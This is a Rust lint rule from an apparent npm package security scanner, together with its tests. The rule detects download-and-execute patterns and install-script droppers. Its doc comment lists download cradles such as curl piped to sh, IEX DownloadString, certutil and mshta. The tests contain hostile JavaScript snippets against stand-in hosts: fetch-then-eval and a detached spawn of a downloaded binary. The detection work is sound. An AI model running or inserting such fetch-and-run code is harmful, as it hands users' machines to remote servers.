//! ## What it does
//! Fires when code fetches something and runs it:
//! - a shell command that pipes a download into a shell (`curl … | sh`, `wget -O- … | bash`)
//!   or a PowerShell/LOLBin download cradle (`IEX (New-Object Net.WebClient).DownloadString`,
//!   `certutil -urlcache`, `mshta http…`);
//! - a network response that reaches `eval`/`Function`/`vm` or a command line;
//! - a response written to a file that is then executed (spawned, or `exec`-ed) — running it
//!   only to ask for `--version` does not count, and package tarballs fetched from a registry
//!   (`…/-/name-1.2.3.tgz`) are what installers do;
//! - an install script starting an executable shipped in the package (`.exe`, `.bat`, `.ps1`,
//!   `.sh` …) detached and with its output hidden, so that it outlives the installation (a
//!   dropper: the package was the download).
//!
//! ## Why is this bad?
//! It hands control of the machine to whatever the server returns today.
//!
//! ## Example
//! ```js
//! https.get('https://dl.example/x', r => r.pipe(fs.createWriteStream(bin)).on('close', () => spawn(bin, [], { detached: true })));
//! ```
//! Benign look-alike: esbuild's installer, which fetches its own package tarball from the
//! registry, extracts the binary and runs it with `--version`.
//!
//! ## Motivated by
//! ua-parser-js 0.7.29–1.0.0 and coa/rc (2021): preinstall scripts that downloaded and ran a
//! cryptominer and a password stealer; the droppers that ship a Windows binary and start it
//! from `postinstall`.

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::facts::{FsKind, PathKey};
use crate::js::strings::Family;
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for e in &ctx.facts.execs {
        let cradle = e.families.has(Family::DownloadCradle)
            && (e.families.has(Family::NetworkCommand)
                || e.command.as_deref().is_some_and(|c| {
                    c.contains("://") || c.to_ascii_lowercase().contains("download")
                }))
            || e.families.has(Family::NetworkCommand)
                && e.command.as_deref().is_some_and(runs_what_it_fetched);
        if cradle {
            out.report(
                AlertId::DownloadExecute,
                AlertSeverity::Critical,
                e.span,
                format!("`{}` pipes a download into an interpreter", e.callee),
                Vec::new(),
            );
        } else if ctx.taint(&e.command_flow).has(Taint::NET_RESPONSE)
            && !ctx.taint(&e.command_flow).has(Taint::REGISTRY_URL)
        {
            out.report(
                AlertId::DownloadExecute,
                AlertSeverity::Critical,
                e.span,
                format!("`{}` runs a command received from the network", e.callee),
                Vec::new(),
            );
        }
    }
    for ev in &ctx.facts.evals {
        if !ev.constant && ctx.taint(&ev.arg).has(Taint::NET_RESPONSE) {
            out.report(
                AlertId::DownloadExecute,
                AlertSeverity::Critical,
                ev.span,
                format!("`{}` evaluates code received from the network", ev.callee),
                Vec::new(),
            );
        }
    }
    // A dropper: an install script starting an executable shipped in the package, detached
    // and hidden so that it outlives the installation.
    if ctx.install_time {
        for e in &ctx.facts.execs {
            let bundled = e.program_text.as_deref().is_some_and(is_executable_file);
            if bundled && e.detached && e.hidden {
                // No installer needs a hidden process that outlives `npm install`: a dropper.
                out.report(
                    AlertId::DownloadExecute,
                    AlertSeverity::Critical,
                    e.span,
                    format!("`{}` starts a shipped executable detached and hidden from an install script", e.callee),
                    Vec::new(),
                );
            }
        }
    }
    // Downloaded to a file, then run.
    let downloaded: Vec<(&PathKey, _)> = ctx
        .facts
        .fs
        .iter()
        .filter(|op| op.kind == FsKind::Write)
        .filter(|op| {
            let data = ctx.taint(&op.data);
            data.has(Taint::NET_RESPONSE) && !data.has(Taint::REGISTRY_URL)
        })
        .filter_map(|op| op.path_key.as_ref().map(|k| (k, op.span)))
        .collect();
    for e in &ctx.facts.execs {
        if e.probe_only {
            continue;
        }
        let Some(program) = &e.program else { continue };
        if downloaded.iter().any(|(k, _)| *k == program) {
            let severity = if e.detached || ctx.install_time {
                AlertSeverity::Critical
            } else {
                AlertSeverity::High
            };
            out.report(
                AlertId::DownloadExecute,
                severity,
                e.span,
                format!("`{}` runs a file the code downloaded", e.callee),
                Vec::new(),
            );
        }
    }
}

/// `curl … -o x && chmod +x x`, `curl … | tar xz && ./tool`: a command line that fetches and
/// then starts a local file.
fn runs_what_it_fetched(command: &str) -> bool {
    let c = command.to_ascii_lowercase();
    let fetch = ["curl ", "wget "].iter().filter_map(|t| c.find(t)).min();
    let run = [
        "&& ./",
        "; ./",
        "&& chmod +x",
        "; chmod +x",
        "| tar x",
        "&& sh ",
        "&& bash ",
    ]
    .iter()
    .filter_map(|t| c.find(t))
    .max();
    matches!((fetch, run), (Some(f), Some(r)) if r > f)
}

/// A native program or script file, not a command name (`x.exe`, `run.sh`).
fn is_executable_file(program: &str) -> bool {
    let lower = program.to_ascii_lowercase();
    [
        ".exe", ".scr", ".com", ".bat", ".cmd", ".vbs", ".ps1", ".sh", ".bin", ".msi", ".dll",
    ]
    .iter()
    .any(|ext| lower.ends_with(ext))
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn curl_pipe_sh_and_fetched_code_fire() {
        fires(
            "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh');",
            false,
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
        );
        fires(
            "const r = await fetch('https://x.example/p.js'); eval(await r.text());",
            false,
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
        );
        fires(
            "const https = require('https'), fs = require('fs'), { spawn } = require('child_process');\nconst bin = '/tmp/.x';\nhttps.get('https://x.example/b', res => {\n  const f = fs.createWriteStream(bin);\n  res.pipe(f);\n  f.on('finish', () => { fs.chmodSync(bin, 0o755); spawn(bin, [], { detached: true }).unref(); });\n});",
            true,
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn registry_tarballs_version_probes_and_strings_do_not() {
        silent(
            "const https = require('https'), fs = require('fs'), cp = require('child_process');\nconst url = `https://registry.example/${pkg}/-/${name}-${v}.tgz`;\nhttps.get(url, res => { const chunks = []; res.on('data', c => chunks.push(c)); res.on('end', () => { fs.writeFileSync(bin, extract(Buffer.concat(chunks))); cp.execFileSync(bin, ['--version']); }); });",
            true,
            AlertId::DownloadExecute,
        );
        silent(
            "console.log('install with: curl -fsSL https://x.example/i.sh | sh');",
            false,
            AlertId::DownloadExecute,
        );
        // Telemetry sent from a detached node process is not a shipped executable.
        silent(
            "require('child_process').spawn(process.execPath, [__dirname + '/report.js'], { detached: true, stdio: 'ignore' }).unref();",
            true,
            AlertId::DownloadExecute,
        );
    }

    #[test]
    fn install_time_dropper_is_critical() {
        fires(
            "const { resolve } = require('path'); const { spawn } = require('child_process');\nspawn(resolve('Setup.Installer.exe'), { detached: true, stdio: 'ignore' }).unref();",
            true,
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
        );
    }
}
